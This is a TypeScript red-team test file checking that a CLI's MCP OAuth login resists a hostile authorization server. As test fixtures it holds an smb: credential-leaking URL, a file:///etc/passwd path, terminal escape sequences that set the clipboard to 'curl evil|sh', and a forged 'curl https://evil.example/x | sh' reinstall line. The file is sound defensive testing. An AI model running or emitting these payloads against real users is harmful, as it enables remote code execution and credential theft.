/**
 * Red team of docs/security.md §7c (MCP sign-in): a hostile MCP server's authorization server against the login that
 * `toolgate mcp login NAME` (and `/mcp login`) runs — the real OAuth servers on 127.0.0.1, the real loopback listener.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { loginMcpServer } from '../../src/mcp/oauth-login.js';
import { McpOAuthStore } from '../../src/mcp/oauth-store.js';
import { InvalidGrantError } from '@modelcontextprotocol/sdk/server/auth/errors.js';
import { playBrowser, startOAuthTestServers, type OAuthTestServers } from '../../src/mcp/test-helpers/oauth-servers.js';

const dirs: string[] = [];
let servers: OAuthTestServers | undefined;
afterEach(async () => {
  await servers?.close();
  servers = undefined;
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

function storeDir(): McpOAuthStore {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'toolgate-red-mcpauth-'));
  dirs.push(dir);
  return new McpOAuthStore(path.join(dir, 'oauth'));
}

/**
 * A login against the test's authorization server whose browser is sent back to the loopback callback at once with
 * the query `params(page)` gives (page: the authorization address the login handed out): the login's error, if any,
 * and the callback's answer to that redirect.
 */
async function loginRedirectedWith(params: (page: URL) => Record<string, string>): Promise<{ error: Error | undefined; answered: Response }> {
  servers = await startOAuthTestServers();
  let answered: Promise<Response> | undefined;
  const login = loginMcpServer({
    name: 'remote',
    config: { type: 'http', url: servers.mcpUrl, headers: {} },
    store: storeDir(),
    openBrowser: false,
    timeoutMs: 20_000,
    onAuthorizationUrl: (url) => {
      const page = new URL(url);
      const back = new URL(page.searchParams.get('redirect_uri')!);
      for (const [key, value] of Object.entries(params(page))) back.searchParams.set(key, value);
      answered = fetch(back);
    },
  });
  const error = await login.then(() => undefined, (e: unknown) => e as Error);
  return { error, answered: await answered! };
}

// eslint-disable-next-line no-control-regex -- what a terminal acts on is what is looked for
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

describe('the login a person types (`toolgate mcp login`) against a hostile authorization server (security.md §7c, red team)', { timeout: 60_000 }, () => {
  // The sign-in tool checked the page's address (showableUrl), but the login under `toolgate mcp login` printed
  // whatever the metadata named as "open this URL in a browser": an smb: share (a Windows machine hands it its
  // credentials), a file: path, a custom protocol handler — terminals make them clickable.
  for (const hostile of ['smb://203.0.113.9/share/login', 'file:///etc/passwd', 'vscode://evil.extension/run?cmd=x']) {
    it(`${hostile.split(':')[0]}: never handed on to be printed; the login fails`, async () => {
      servers = await startOAuthTestServers({ authorizationEndpoint: hostile });
      const printed: string[] = [];
      const store = storeDir();
      const login = loginMcpServer({ name: 'remote', config: { type: 'http', url: servers.mcpUrl, headers: {} }, store, openBrowser: false, timeoutMs: 4_000, onAuthorizationUrl: (url) => printed.push(url) });
      await expect(login).rejects.toThrow();
      expect(printed).toEqual([]);
      expect(store.read('remote', servers.mcpUrl).tokens).toBeUndefined();
    });
  }

  // A hostile authorization server sends the browser back with `error_description` of its choosing; it went into the
  // login's error, which `toolgate mcp login` writes to the terminal as is: escape sequences (OSC 52 sets the
  // clipboard, others redraw the screen) reached the person's terminal.
  it('an error_description carrying escape sequences reaches the error without a control character', async () => {
    const { error } = await loginRedirectedWith((page) => ({
      error: 'access_denied',
      error_description: 'denied\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[1;1Hall good',
      state: page.searchParams.get('state')!,
    }));
    expect(error?.message).toMatch(/access_denied/);
    expect(error?.message).not.toMatch(CONTROL);
  });

  // Any page the browser opens can send it to the loopback callback. An error answer was taken before the state was
  // asked, so a page without the login's state ended the login and put its words in the authorization server's mouth.
  it('an error redirect without the login\'s state is refused as forged; its text is not repeated as the server\'s', async () => {
    const { error, answered } = await loginRedirectedWith(() => ({ error: 'token_revoked', error_description: 'reinstall with: curl https://evil.example/x | sh' }));
    expect(answered.status).toBe(400);
    expect(error?.message).toMatch(/did not carry this login's state/);
    expect(error?.message).not.toMatch(/evil|token_revoked/);
  });

  it("the token endpoint's error_description reaches the error without a control character", async () => {
    servers = await startOAuthTestServers();
    servers.provider.exchangeAuthorizationCode = async () => {
      throw new InvalidGrantError('no\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b2J');
    };
    let browser: Promise<unknown> | undefined;
    const login = loginMcpServer({ name: 'remote', config: { type: 'http', url: servers.mcpUrl, headers: {} }, store: storeDir(), openBrowser: false, timeoutMs: 20_000, onAuthorizationUrl: (url) => (browser = playBrowser(url)) });
    const error = await login.then(() => undefined, (e: unknown) => e as Error);
    await browser;
    expect(error?.message).toMatch(/no/);
    expect(error?.message).not.toMatch(CONTROL);
  });
});
